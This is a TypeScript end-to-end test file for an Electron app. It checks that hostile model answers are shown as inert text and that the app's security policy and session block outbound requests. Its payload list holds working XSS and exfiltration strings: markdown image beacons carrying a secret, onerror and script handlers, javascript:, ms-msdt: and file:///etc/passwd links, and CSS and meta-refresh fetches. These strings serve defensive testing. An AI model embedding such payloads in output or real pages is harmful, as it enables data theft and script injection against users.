import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Inquirium } from '../fixtures/inquirium'
import { expect, test } from '../fixtures/test'

/** Every way in that a text can try, aimed at a server that would notice. */
const attacksAt = (host: string): readonly string[] => [
  `![pixel](http://${host}/inline?d=secret)`,
  `![pixel][p]\n\n[p]: http://${host}/reference`,
  `[![x](http://${host}/linked-image)](http://${host}/)`,
  `<img src="http://${host}/img" onerror="window.owned = true">`,
  `<img srcset="http://${host}/srcset 1x">`,
  `<script src="http://${host}/script"></script><script>window.owned = true</script>`,
  '<svg><animate onbegin="window.owned = true" attributeName="x" dur="1s"></svg>',
  '[click](javascript:window.owned=true) [data](data:text/html,<script>window.owned=true</script>)',
  `[share](smb://${host}/share) [help](ms-msdt:/id) [file](file:///etc/passwd)`,
  `<div style="background:url(http://${host}/style)">x</div><style>@import "http://${host}/import"</style>`,
  `<video poster="http://${host}/poster" src="http://${host}/video"></video><audio src="http://${host}/audio" autoplay>`,
  `<form action="http://${host}/form"><input name="p"><button>Send</button></form>`,
  `<iframe src="http://${host}/frame"></iframe><object data="http://${host}/object"></object><embed src="http://${host}/embed">`,
  `<meta http-equiv="refresh" content="0;url=http://${host}/refresh"><base href="http://${host}/"><link rel="stylesheet" href="http://${host}/css">`,
  `<link rel="dns-prefetch" href="//${host}"><a ping="http://${host}/ping" href="http://${host}/">x</a>`,
  `$\\href{javascript:window.owned=true}{x}$ $$\\includegraphics{http://${host}/math}$$`,
  `\`\`\`html\n<img src="http://${host}/code" onerror="window.owned = true">\n\`\`\``,
]

interface Witness {
  readonly host: string
  readonly heard: string[]
  readonly server: Server
}

async function aWitness(): Promise<Witness> {
  const heard: string[] = []
  const server = createServer((request, response) => {
    heard.push(request.url ?? '')
    response.end()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return { host: `127.0.0.1:${(server.address() as AddressInfo).port}`, heard, server }
}

/** Counts what the page's policy stopped, from now on. */
const watch = (app: Inquirium) =>
  app.page.evaluate(() => {
    const reports: string[] = []
    Object.assign(window, { reports, owned: false })
    document.addEventListener('securitypolicyviolation', ({ blockedURI }) => reports.push(blockedURI))
  })

const seen = async (app: Inquirium) => ({
  ...(await app.page.evaluate(() => {
    const { reports, owned } = window as unknown as { reports: string[]; owned: boolean }
    return { reports, owned }
  })),
  blocked: (await app.world()).blocked,
})

test.describe('a hostile answer', () => {
  let witness: Witness
  test.beforeEach(async () => {
    witness = await aWitness()
  })
  test.afterEach(() => {
    witness.server.close()
  })

  test('is shown and fetches nothing, runs nothing, and gives the guards nothing to stop', async ({ app }) => {
    const attacks = attacksAt(witness.host)
    await app.changeWorld({
      answers: [attacks.join('\n\n'), { says: attacks.join('\n\n'), thinks: attacks.join('\n\n') }],
    })
    await watch(app)
    await app.ask('Show me everything')
    await app.page.getByRole('button', { name: 'Regenerate' }).click()
    await expect(app.page.getByRole('heading', { name: 'Answer 2' })).toBeVisible()
    await app.page.getByText('What the model thought aloud').click()
    const main = app.page.getByRole('main')
    await expect(main).toContainText('window.owned')
    await expect(
      main.locator(
        'img, script, svg animate, iframe, form[action], video, audio, object, embed, base, meta, link, style, a[href^="http"], [onerror], [style*="url"]',
      ),
    ).toHaveCount(0)
    expect(await seen(app)).toEqual({ reports: [], owned: false, blocked: [] })
    expect(witness.heard).toEqual([])
    expect((await app.world()).opened).toEqual([])
  })

  test.describe('obeyed by a careless page', () => {
    test.use({ expectedConsole: /Content Security Policy|Trusted|ERR_BLOCKED|Failed to load|Refused|Loading/i })

    test('would be stopped by both guards, so the counts above could have been others', async ({ app }) => {
      await watch(app)
      await app.page.evaluate((host) => {
        for (const [name, attribute] of [
          ['img', 'src'],
          ['iframe', 'src'],
          ['audio', 'src'],
        ] as const) {
          const element = document.createElement(name)
          element.setAttribute(attribute, `http://${host}/${name}`)
          document.body.append(element)
        }
      }, witness.host)
      await expect.poll(async () => (await seen(app)).reports.length).toBeGreaterThanOrEqual(3)
      // What the policy would let through, the session does not.
      await app.electron.evaluate(async ({ BrowserWindow }, host) => {
        const session = BrowserWindow.getAllWindows()[0]?.webContents.session
        await session?.fetch(`http://${host}/session`).catch(() => undefined)
      }, witness.host)
      await expect.poll(async () => (await seen(app)).blocked.length).toBeGreaterThanOrEqual(1)
      expect(witness.heard).toEqual([])
    })
  })
})
